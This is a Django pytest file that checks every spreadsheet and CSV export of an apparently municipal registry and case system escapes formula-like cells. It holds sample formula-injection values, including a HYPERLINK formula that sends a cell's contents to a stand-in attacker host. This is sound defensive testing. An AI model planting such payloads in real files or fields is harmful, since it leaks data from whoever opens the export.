"""No export hands out a live spreadsheet formula (issue 11, item 4).

A note written through the API as ``=HYPERLINK(…)``, and unit and grid names that start
like formulas, go through every export of the product (persons through the API, masked
and revealed, and through the admin; the dashboard; the ranking by unit and by region;
the import templates): no cell of any of them is a formula or text a spreadsheet program
would read as one. That every export is written by ``core.exports`` is
``core/tests/test_exports.py``.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from gongzhi.cases.models import CaseState
from gongzhi.core.exports import FORMULA_STARTS
from gongzhi.registry.models import Person

NOTE = '=HYPERLINK("http://evil.example/?id="&D2,"详情")'
UNIT_NAME = "-1+城管执法局"
GRID_NAME = "@SUM(1+1)*永安里"
PERIOD = {"start": "2025-09-01", "end": "2025-09-30"}


@pytest.fixture(autouse=True)
def no_cached_dashboard():
    """No dashboard of another test from the cache here, and the renamed unit in none after."""
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


def _texts_of(response) -> list[str]:
    """Every text cell of an XLSX or CSV download; fails on a formula cell."""
    assert response.status_code == 200, response.content[:300]
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
        return [value for row in rows for value in row]
    texts = []
    for sheet in load_workbook(io.BytesIO(response.content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _assert_inert(response, *expected):
    texts = _texts_of(response)
    live = [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert not live, f"cells that a spreadsheet would evaluate: {live}"
    for value in expected:
        assert "'" + value in texts, f"{value!r} is not in the export, neutralised"


@pytest.mark.django_db
def test_no_export_hands_out_a_formula(world, signed_in, case_in):
    world.users.comm_a_staff.is_staff = True  # as accounts.services makes staff roles (make_user does not)
    world.users.comm_a_staff.save()
    staff = signed_in(world.users.comm_a_staff)
    created = staff.post("/api/v1/registry/persons", {"name": "张三", "grid": world.tree["grid_a1"].code,
                                                      "note": NOTE}, content_type="application/json")
    assert created.status_code == 201, created.content
    assert Person.objects.get().note == NOTE  # stored as written: neutralised on the way out only

    _assert_inert(staff.get("/api/v1/registry/exports/persons.xlsx"), NOTE)
    _assert_inert(staff.post("/api/v1/registry/exports/persons.xlsx", {"reason": "民政局核对低保名单"},
                             content_type="application/json"), NOTE)
    admin_export = staff.post("/admin/registry/person/", {"action": "export_xlsx",
                                                          "_selected_action": [Person.objects.get().pk]})
    _assert_inert(admin_export, NOTE)
    _assert_inert(staff.get("/admin/registry/person/import-template/"))

    world.units.chengguan.name = UNIT_NAME
    world.units.chengguan.save()
    grid = world.tree["grid_a1"]
    grid.name = GRID_NAME
    grid.save()
    case_in(CaseState.CLOSED)
    admin = signed_in(world.users.admin)  # the same test client, signed in anew
    _assert_inert(admin.get("/dashboard/export.xlsx", PERIOD), UNIT_NAME, GRID_NAME)
    _assert_inert(admin.get("/api/v1/cases/metrics/ranking.xlsx", {"month": "2025-09"}), UNIT_NAME)
    _assert_inert(admin.get("/api/v1/cases/metrics/ranking.xlsx",
                            {"month": "2025-09", "by": "region", "region": world.tree["comm_a"].code}), GRID_NAME)
    _assert_inert(admin.get("/console/cases/export.xlsx"), UNIT_NAME, GRID_NAME)  # the case list, both formats
    _assert_inert(admin.get("/console/cases/export.csv"), UNIT_NAME, GRID_NAME)
    for name in ("registry.xlsx", "persons.csv"):
        _assert_inert(admin.get(f"/api/v1/registry/import-templates/{name}"))
